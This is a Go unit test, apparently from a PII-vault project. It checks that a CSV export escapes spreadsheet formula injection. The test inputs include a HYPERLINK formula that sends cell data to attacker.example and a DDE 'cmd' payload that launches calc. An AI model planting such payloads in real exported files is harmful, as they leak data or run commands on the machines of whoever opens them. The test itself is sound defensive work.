package httpapi

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"testing"
	"time"

	"github.com/piivault/piivault/sdk"
)

// A value or name that a spreadsheet would run as a formula is written as
// text (OWASP CSV injection): every cell that starts with =, +, -, @, tab or
// carriage return gets a leading apostrophe.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://attacker.example/?x="&A2,"click")`,
		"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1",
	}
	x := sdk.SubjectExport{Subject: "=cust-1"}
	for _, h := range hostile {
		raw, _ := json.Marshal(h)
		x.Values = append(x.Values, sdk.ExportValue{Class: "name", Value: raw, State: "revealed"})
	}
	x.Values = append(x.Values, sdk.ExportValue{Class: "email", Value: json.RawMessage(`"ada@example.com"`), State: "revealed"})
	x.Events = []sdk.ExportEventRef{{Stream: "@stream", Type: "+Type", Paths: []string{"/name"}}}
	z, err := exportZip(x, time.Unix(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, row := range rows[1:] {
			cells = append(cells, row...)
		}
	}
	var sawValue bool
	for _, c := range cells {
		if c != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(c[0])) {
			t.Errorf("cell %q starts with a formula character", c)
		}
		if c == "'"+hostile[0] {
			sawValue = true
		}
		if c == "'ada@example.com" {
			t.Errorf("harmless cell %q was changed", c)
		}
	}
	if !sawValue {
		t.Errorf("the HYPERLINK value is not in values.csv as text; cells: %q", cells)
	}
}
